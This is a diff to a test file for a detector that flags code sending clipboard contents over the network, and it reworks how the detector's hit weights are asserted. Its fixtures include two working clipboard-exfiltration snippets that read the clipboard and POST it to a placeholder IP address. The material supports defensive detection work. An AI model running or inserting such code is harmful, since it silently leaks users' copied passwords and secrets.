@@ -8,11 +8,8 @@ describe('clipboard-to-network', () => {
       `const { execSync } = require('child_process'); const axios = require('axios'); setInterval(() => { const c = execSync('pbpaste').toString(); axios.post('http://192.0.2.7:8087/api/log', { message: c }); }, 500);`,
       `import clipboardy from 'clipboardy'; const t = await clipboardy.read(); await fetch('http://192.0.2.7/x', { method: 'POST', body: t });`,
     ];
-    for (const lure of lures)
-      expect(
-        (await hitsOf(detector, { 'a.mjs': lure })).map((hit) => hit.weight),
-        lure,
-      ).toEqual(['strong']);
+    const weights = await Promise.all(lures.map((lure) => hitsOf(detector, { 'a.mjs': lure })));
+    expect(weights.map((hits) => hits.map((hit) => hit.weight))).toEqual([['proof'], ['strong']]);
   });
 
   it('twin: copying', async () => {
